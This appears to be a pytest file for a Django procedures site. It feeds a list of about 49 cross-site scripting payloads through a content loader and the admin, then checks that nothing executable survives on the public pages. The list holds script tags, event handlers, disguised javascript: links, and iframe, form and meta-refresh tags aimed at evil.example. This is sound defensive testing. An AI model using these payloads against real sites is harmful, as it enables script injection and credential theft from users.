"""Hostile Markdown, through the content loader and through the admin: none of it survives.

Each input goes into a page's text and its short fields (title, summary, at-a-glance);
the public pages that show them are then inspected for anything that could run script,
load from elsewhere, or that a strict CSP would have to block. A canary sentence next to
each input proves the edit really reached the page (so no test passes by showing nothing).
"""

import re

import pytest
import yaml
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from procedures.models import Procedure
from tests.factories import PROCEDURE_BODY, make_procedure, make_user
from tests.security import form_data, unsafe_html

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "</script><script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')><circle r=9 /></svg>",
    "<body onload=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>x</details>",
    "<div onclick=\"alert('XSS')\">click</div>",
    '<a href="#" onmouseover="alert(\'XSS\')">hover</a>',
    "[click XSS](javascript:alert('XSS'))",
    "[click XSS](JaVaScRiPt:alert('XSS'))",
    "[click XSS](  javascript:alert('XSS'))",
    "[click XSS](java&#115;cript:alert('XSS'))",
    "[click XSS](&#x6A;avascript&#x3A;alert('XSS'))",
    "[click XSS](java\tscript:alert('XSS'))",
    "[XSS ref][evil]\n\n[evil]: javascript:alert('XSS')",
    "<a href=\"javascript:alert('XSS')\">XSS</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">XSS</a>',
    "<a href=\"jav&#x09;ascript:alert('XSS')\">XSS</a>",
    "<a href=\"javascript&colon;alert('XSS')\">XSS</a>",
    "<a href=\"vbscript:msgbox('XSS')\">XSS</a>",
    "[XSS](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![XSS](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src=\"data:image/svg+xml,<svg onload=alert('XSS')>\">",
    '<iframe src="https://evil.example/XSS"></iframe>',
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    "<p style=\"background:url(javascript:alert('XSS'))\">styled XSS</p>",
    '<object data="https://evil.example/XSS.swf"></object>',
    '<embed src="https://evil.example/XSS.swf">',
    '<form action="https://evil.example/XSS"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/XSS">',
    '<base href="https://evil.example/XSS/">',
    '<link rel=stylesheet href="https://evil.example/XSS.css">',
    "A paragraph about XSS\n{: onclick=\"alert('XSS')\" }",
    "### A heading about XSS {: onmouseover=\"alert('XSS')\" }",
    "[a link XSS](https://example.org/){: onclick=\"alert('XSS')\" }",
    "![XSS\" onerror=\"alert('XSS')](x.png)",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<<script>alert('XSS');//<</script>",
    '<img """><script>alert(\'XSS\')</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\">",
    "<!--<script>alert('XSS')</script>-->",
    "<xmp><script>alert('XSS')</script></xmp>",
    "<template><script>alert('XSS')</script></template>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<img src=x:alert(alt) onerror=eval(src) alt=XSS>",
    "<a href='javascript:alert(\"XSS\")' <b>unclosed",
]
MARKER = "xss"


def body_with(payload: str, canary: str) -> str:
    return PROCEDURE_BODY.replace(
        "A small shot near a nerve.\n", f"A small shot near a nerve.\n\n{canary}\n\n{payload}\n"
    )


def short(payload: str, limit: int) -> str:
    return payload if len(payload) <= limit else payload[:limit]


def pages_showing(client, procedure) -> dict[str, str]:
    urls = {
        "detail": procedure.get_absolute_url(),
        "list": reverse("procedures:list"),
        "home": reverse("home"),
    }
    out = {}
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, name
        out[name] = response.content.decode()
    return out


def assert_nothing_survives(pages: dict[str, str], canary: str) -> None:
    assert canary in pages["detail"], "the hostile edit never reached the page"
    for name, page in pages.items():
        assert unsafe_html(page, marker=MARKER) == [], name


def write_procedure_file(root, slug: str, payload: str, canary: str) -> None:
    front = {
        "title": short(f"Test {payload}", 150),
        "slug": slug,
        "summary": short(f"Summary {payload}", 200),
        "main_message": short(f"Message {payload}", 300),
        "kind": "treatment",
        "used_for": short(payload, 300),
        "duration": "About 20 minutes",
        "sedation": "Awake",
        "driver": "Yes",
        "relief_starts": "In a few days",
        "relief_lasts": "It varies",
        "sources": [
            {
                "organization": "Example Society",
                "title": "A patient guide",
                "year": 2024,
                "url": "https://www.example.org/guide",
            }
        ],
    }
    folder = root / "procedures"
    folder.mkdir(parents=True)
    text = "---\n" + yaml.safe_dump(front, sort_keys=False, allow_unicode=True) + "---\n"
    (folder / f"{slug}.md").write_text(text + body_with(payload, canary), encoding="utf-8")


MULTILINE = re.compile(r"[\r\n]")


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_hostile_markdown_through_load_content(client, tmp_path, number):
    payload, canary = HOSTILE[number], f"Canary sentence number {number}."
    write_procedure_file(tmp_path, "hostile-page", payload, canary)
    if MULTILINE.search(payload):  # a one-line field with a line break: refused, file:line
        with pytest.raises(CommandError):
            call_command("load_content", str(tmp_path))
        assert not Procedure.objects.filter(slug="hostile-page").exists()
        return
    call_command("load_content", str(tmp_path))
    procedure = Procedure.objects.get(slug="hostile-page")
    assert_nothing_survives(pages_showing(client, procedure), canary)


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_hostile_markdown_through_the_admin(client, number):
    payload, canary = HOSTILE[number], f"Canary sentence number {number}."
    procedure = make_procedure(slug="hostile-page")
    client.force_login(make_user(superuser=True))
    url = reverse("admin:procedures_procedure_change", args=[procedure.pk])
    data = form_data(client.get(url).content.decode(), "procedure_form")
    data.update(
        title=short(f"Test {payload}", 150),
        summary=short(f"Summary {payload}", 200),
        main_message=short(f"Message {payload}", 300),
        used_for=short(payload, 300),
        body=body_with(payload, canary),
    )
    response = client.post(url, data)
    if MULTILINE.search(payload):  # the same rule as content files: refused, nothing saved
        assert response.status_code == 200
        assert "Write this on one line." in response.content.decode()
        procedure.refresh_from_db()
        assert procedure.title != short(f"Test {payload}", 150)
        return
    assert response.status_code == 302, response.context["adminform"].form.errors
    client.logout()
    assert_nothing_survives(pages_showing(client, procedure), canary)


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 30
